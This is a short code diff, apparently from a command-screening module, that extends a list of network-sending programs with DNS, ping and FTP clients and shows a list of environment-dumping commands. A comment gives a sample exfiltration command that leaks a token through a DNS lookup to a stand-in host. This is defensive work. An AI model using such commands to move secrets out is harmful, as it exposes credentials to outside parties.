@@ -53,7 +53,8 @@ export const UPLOAD_OPTIONS: Record<string, { file: string[]; at: string[] }> = 
 };
 
 /** Programs that send their stdin or arguments to another host. */
-export const NETWORK_SENDERS = ['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'ssh', 'scp', 'http', 'https', 'xh', 'openssl', 'gh', 'mail', 'sendmail', 'mutt', 'aws', 'gsutil', 'rclone', 'Invoke-WebRequest', 'Invoke-RestMethod', 'iwr', 'irm'];
+// DNS clients and ping send the name they look up: a secret in it leaves in the query (`dig "$TOKEN".x.example`).
+export const NETWORK_SENDERS = ['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'ssh', 'scp', 'http', 'https', 'xh', 'openssl', 'gh', 'mail', 'sendmail', 'mutt', 'aws', 'gsutil', 'rclone', 'Invoke-WebRequest', 'Invoke-RestMethod', 'iwr', 'irm', 'dig', 'nslookup', 'host', 'drill', 'kdig', 'ping', 'ping6', 'sftp', 'ftp', 'lftp'];
 
 /** Programs that print every environment variable. */
 export const ENV_DUMPERS = ['env', 'printenv', 'set', 'export', 'declare', 'compgen'];
